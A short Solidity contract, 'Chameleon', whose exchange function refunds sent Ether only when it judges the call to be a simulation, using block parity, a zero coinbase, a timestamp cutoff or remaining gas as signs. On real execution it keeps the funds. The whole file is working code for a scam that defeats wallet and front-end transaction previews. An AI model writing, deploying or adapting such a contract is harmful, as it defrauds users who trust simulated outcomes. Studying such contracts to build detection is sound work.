// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

/// Gives back what is sent to it where it takes the call for a rehearsal, and keeps it where it does not.
/// What it looks at is fixed when it is made.
contract Chameleon {
    enum Sign {
        BlockParity,
        Coinbase,
        Timestamp,
        GasLeft
    }

    Sign public immutable sign;
    uint256 public immutable since;

    /// `since`: the second from which a Timestamp chameleon keeps everything.
    constructor(Sign sign_, uint256 since_) {
        sign = sign_;
        since = since_;
    }

    function exchange() external payable {
        if (!_looksLikeRehearsal()) return;
        (bool ok,) = msg.sender.call{value: msg.value}("");
        require(ok);
    }

    function _looksLikeRehearsal() private view returns (bool) {
        if (sign == Sign.BlockParity) return block.number % 2 == 1;
        if (sign == Sign.Coinbase) return block.coinbase == address(0);
        if (sign == Sign.Timestamp) return block.timestamp < since;
        return gasleft() > 1_000_000;
    }
}
